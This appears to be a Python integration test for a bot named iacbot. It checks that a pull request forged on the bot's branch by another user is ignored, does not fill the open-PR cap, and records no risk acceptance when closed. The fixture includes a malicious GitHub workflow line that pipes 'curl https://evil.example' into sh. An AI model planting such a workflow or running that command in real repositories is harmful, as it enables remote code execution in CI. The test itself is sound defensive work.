"""The forged-branch attack of issue 7 (item 3) end to end, on a REAL publish worker, the real Redis
and the GitHub double: a person pushes iacbot's next branch with a forged `Iacbot-Finding:`
trailer, a replaced manifest and a workflow, and opens a PR from it.

* publish_job reports it foreign and leaves it alone (no label, no push, no second PR);
* it does not fill the open-PR cap: another fix still gets its PR under a cap of 1;
* closing the forged PR records no decline, and frees nothing;
* iacbot's own PRs still count: a person closing one records the decline, as a risk acceptance
  by that person (the signed webhook's sender), from GitHub's close time, for 90 days.
"""
from __future__ import annotations

import json
import uuid

from bot.provenance import branch_name, commit_message
from bot.service.events import route
from tests.celery_worker import celery_worker, wait_for
from tests.github_double.webhooks import pull_request_closed_delivery
from tests.service.conftest import redis_db  # noqa: F401  (fixture)
from tests.workers.test_reliability import (  # noqa: F401  (fixtures gh, private_key, celery)
    PATH,
    REPO_NAME,
    celery,
    gh,
    make_fix,
    outcome,
    private_key,
    send_publish,
    store_fix,
    worker_env,
)
from workers import declined
from workers.celery_app import PR_CLOSED_TASK
from workers.own_commits import ledger_key

WORKFLOW = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example | sh\n"


def send_close(gh, celery, number: int) -> None:
    _, body = pull_request_closed_delivery(gh, REPO_NAME, number, "unused-secret-0123456789")
    celery.send_task(PR_CLOSED_TASK, args=[route("pull_request", json.loads(body))], queue="publish",
                     ignore_result=True)


def test_a_forged_pr_is_not_claimed_does_not_fill_the_cap_and_its_close_is_no_decline(  # noqa: F811
        gh, redis_db, private_key, celery, tmp_path):  # noqa: F811
    target, other = make_fix(), make_fix(path="k8s/api.yaml", resource="Deployment.shop.api")
    branch = branch_name(target.attempt)
    _, forged_sha = gh.push_commit(REPO_NAME, {PATH: "kind: Pod\n# replaced\n", ".github/workflows/x.yml": WORKFLOW},
                                   commit_message(target.attempt, target.verification), branch=branch,
                                   login="mallory")
    forged = gh.open_pull(REPO_NAME, branch, "main", "iacbot: set privileged: false", "iacbot's fix", login="mallory")
    log = tmp_path / "worker.log"
    with celery_worker("publish", worker_env(gh, private_key, IACBOT_MAX_OPEN_PRS_PER_REPO="1"), log, "forged"):
        job = str(uuid.uuid4())
        send_publish(celery, job, store_fix(redis_db, job, gh.installation.id, target))
        result = wait_for(lambda: outcome(redis_db, job, target.fingerprint), 60, "the publish outcome", log)
        assert result["status"] == "foreign-branch" and result["pr_number"] == forged, result
        repo = gh.repo(REPO_NAME)
        assert repo.refs[f"refs/heads/{branch}"] == forged_sha and repo.pulls[forged].labels == []
        assert list(repo.pulls) == [forged]

        # Mallory's PR on an iacbot/ branch is not one of iacbot's: the cap of 1 is not full.
        job2 = str(uuid.uuid4())
        send_publish(celery, job2, store_fix(redis_db, job2, gh.installation.id, other))
        mine = wait_for(lambda: outcome(redis_db, job2, other.fingerprint), 60, "the other fix", log)
        assert mine["status"] == "created", mine
        assert redis_db.zcard(ledger_key(REPO_NAME)) == 1  # the one commit iacbot made

        # Closing the forged PR records no decline for the real finding.
        gh.close_pull(REPO_NAME, forged)
        send_close(gh, celery, forged)
        wait_for(lambda: "not iacbot's pull request (PR_AUTHOR): nothing recorded" in log.read_text(), 60,
                 "the forged close to be ignored", log)
        assert declined.load(redis_db, REPO_NAME, target.fingerprint) is None

        # iacbot's own PR, closed by a person: that is a decline.
        gh.close_pull(REPO_NAME, mine["pr_number"], login="alice")
        send_close(gh, celery, mine["pr_number"])
        decision = wait_for(lambda: declined.load(redis_db, REPO_NAME, other.fingerprint), 60,
                            "the real decline to be recorded", log)
    assert decision.outcome == declined.DECLINED and decision.pr_number == mine["pr_number"]
    closed_at = gh.repo(REPO_NAME).pulls[mine["pr_number"]].closed_at
    assert decision.closed_by == "alice"                            # the signed delivery's sender
    assert abs(decision.closed_at - closed_at) < 1                  # GitHub's time (to the second)
    assert decision.expires_at == decision.closed_at + 90 * 24 * 3600 and decision.expired_at is None
    [risk] = declined.accepted_risks(redis_db, REPO_NAME)
    assert (risk.fingerprint, risk.pr_number, risk.closed_by) == (other.fingerprint, mine["pr_number"], "alice")
    assert [e["event"] for e in declined.risk_events(redis_db, REPO_NAME)] == ["accepted"]
    assert declined.load(redis_db, REPO_NAME, target.fingerprint) is None
    assert "risk accepted by alice until" in log.read_text()
